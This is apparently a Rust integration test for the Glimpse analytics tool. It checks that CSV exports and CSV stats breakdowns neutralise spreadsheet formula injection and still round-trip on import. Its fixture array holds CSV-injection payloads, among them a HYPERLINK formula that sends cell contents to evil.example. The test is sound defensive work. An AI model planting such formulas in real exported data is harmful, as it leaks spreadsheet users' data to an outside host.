//! Spreadsheet formulas from visitors never reach a CSV cell as a formula: events whose paths,
//! referrers, sources, campaign tags, city and properties start with `=`, `+`, `-`, `@`, a tab
//! or a carriage return go into a real ClickHouse; `glimpse export --format csv` and the stats
//! API's CSV breakdowns are read back with a CSV parser, and no cell may start with one of those
//! characters (OWASP's CSV injection rule). The export still round-trips through
//! `glimpse import`.

mod common;

use std::time::Duration;

use common::TestClickHouse;
use glimpse_core::schema::EventRow;
use tokio::net::TcpListener;
use tokio_util::sync::CancellationToken;

const SITE: &str = "example.com";
/// 2026-01-01 12:00 UTC.
const NOON: u32 = 1_767_268_800;

/// Visitor-controlled text a spreadsheet would run or mangle.
const HOSTILE: [&str; 9] = [
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"click\")",
    "=1+2",
    "@SUM(1)",
    "+1+2",
    "-2+3",
    "\t=1+2",
    "\r=1+2",
    "-12",
    "'quoted",
];

fn rows() -> Vec<EventRow> {
    HOSTILE
        .iter()
        .enumerate()
        .map(|(i, text)| {
            let i = i as u32;
            let text = text.to_string();
            EventRow {
                site: SITE.into(),
                timestamp: NOON + i,
                name: text.clone(),
                hostname: "example.com".into(),
                pathname: text.clone(),
                entry_page: text.clone(),
                referrer: text.clone(),
                referrer_source: text.clone(),
                utm_source: text.clone(),
                utm_campaign: text.clone(),
                visit_referrer: text.clone(),
                visit_referrer_source: text.clone(),
                visit_utm_source: text.clone(),
                visit_utm_campaign: text.clone(),
                visitor_id: 1000 + u64::from(i),
                session_id: 2000 + u64::from(i),
                visit_start: NOON + i,
                visit_entry: 1,
                visit_bounce: 1,
                country: "DE".into(),
                city: text.clone(),
                prop_keys: vec!["plan".into()],
                prop_values: vec![text],
                ..EventRow::default()
            }
        })
        .collect()
}

const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Every cell of `csv` (parsed, so quoting cannot hide a cell's first character); panics
/// naming the first cell a spreadsheet would treat as a formula.
fn cells(what: &str, csv: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.as_bytes());
    let mut all = Vec::new();
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{what}: not CSV: {e}\n{csv}"));
        for cell in &record {
            // Numbers Glimpse computed are written as numbers, negative ones too (a change).
            assert!(
                !cell.starts_with(FORMULA_STARTS) || cell.parse::<f64>().is_ok(),
                "{what}: cell {cell:?} starts with a formula character"
            );
            all.push(cell.to_string());
        }
    }
    all
}

async fn glimpse(ch: &TestClickHouse, env: &[(&str, &str)], args: &[&str]) -> String {
    let output = tokio::process::Command::new(env!("CARGO_BIN_EXE_glimpse"))
        .args(args)
        .env("GLIMPSE_CLICKHOUSE_URL", ch.url())
        .env("GLIMPSE_DATA_DIR", ch.data_dir())
        .env("GLIMPSE_SITES", SITE)
        .env("GLIMPSE_LOG", "warn")
        .envs(env.iter().copied())
        .output()
        .await
        .unwrap();
    assert!(
        output.status.success(),
        "glimpse {args:?}: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    String::from_utf8(output.stdout).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_csv_cell_starts_with_a_formula_character() {
    let ch = TestClickHouse::start().await;
    std::fs::create_dir_all(ch.data_dir()).unwrap();
    glimpse(&ch, &[], &["migrate"]).await;
    let rows = rows();
    let mut insert = ch
        .client
        .clone()
        .with_database("glimpse")
        .insert::<EventRow>("events")
        .await
        .unwrap();
    for row in &rows {
        insert.write(row).await.unwrap();
    }
    insert.end().await.unwrap();

    // The export.
    let file = ch.data_dir().join("export.csv");
    let path = file.to_str().unwrap();
    glimpse(
        &ch,
        &[],
        &[
            "export",
            "--site",
            SITE,
            "--from",
            "2026-01-01",
            "--to",
            "2026-01-01",
            "--format",
            "csv",
            "--output",
            path,
        ],
    )
    .await;
    let exported = std::fs::read_to_string(&file).unwrap();
    let all = cells("export", &exported);
    // Positive control: the hostile values are there, neutralised, in every text column.
    for text in HOSTILE {
        let neutral = format!("'{text}");
        assert!(
            all.iter().filter(|c| **c == neutral).count() >= 10,
            "export: {neutral:?} not found in its columns"
        );
    }
    // ... and the neutralisation is undone on import: an exact round trip.
    glimpse(
        &ch,
        &[("GLIMPSE_CLICKHOUSE_DATABASE", "copy")],
        &["import", "--format", "csv", path],
    )
    .await;
    let mut copied: Vec<EventRow> = ch
        .client
        .query("SELECT ?fields FROM copy.events ORDER BY timestamp")
        .fetch_all()
        .await
        .unwrap();
    for row in &mut copied {
        row.batch_id = 0;
    }
    let mut original = rows.clone();
    for row in &mut original {
        row.batch_id = 0;
    }
    assert_eq!(copied, original, "CSV export → import round trip");

    // The stats API's CSV.
    let stop = CancellationToken::new();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let config = ch.config();
    tokio::spawn(glimpse_query::serve(
        config.clone(),
        listener,
        stop.clone().cancelled_owned(),
    ));
    let (key, _) = glimpse_query::auth::create_key(&ch.client, "glimpse", &config, SITE, "t")
        .await
        .unwrap();
    let http = reqwest::Client::new();
    common::wait_for_200(&http, &format!("{base}/ready"), Duration::from_secs(30)).await;
    for property in [
        "event:page",
        "event:name",
        "event:props:plan",
        "visit:entry_page",
        "visit:source",
        "visit:referrer",
        "visit:utm_source",
        "visit:utm_campaign",
        "visit:city",
    ] {
        // Also with a comparison: its columns follow the same rule.
        for comparison in ["off", "custom"] {
            let url = reqwest::Url::parse_with_params(
                &format!("{base}/api/v1/stats/breakdown"),
                &[
                    ("site_id", SITE),
                    ("property", property),
                    ("metrics", "visitors,pageviews"),
                    ("period", "custom"),
                    ("date", "2026-01-01,2026-01-01"),
                    ("format", "csv"),
                    ("comparison", comparison),
                    ("compare_from", "2026-01-01"),
                    ("compare_to", "2026-01-01"),
                ],
            )
            .unwrap();
            let response = http.get(url).bearer_auth(&key).send().await.unwrap();
            assert_eq!(response.status(), 200, "{property}");
            let body = response.text().await.unwrap();
            if comparison == "custom" {
                assert!(body.contains(",change_visitors,"), "{body}");
            }
            let all = cells(property, &body);
            assert!(
                all.iter().any(|c| c == "'=1+2") && all.iter().any(|c| c == "'\t=1+2"),
                "{property} ({comparison}): the hostile labels are missing: {all:?}"
            );
        }
    }
    stop.cancel();
}
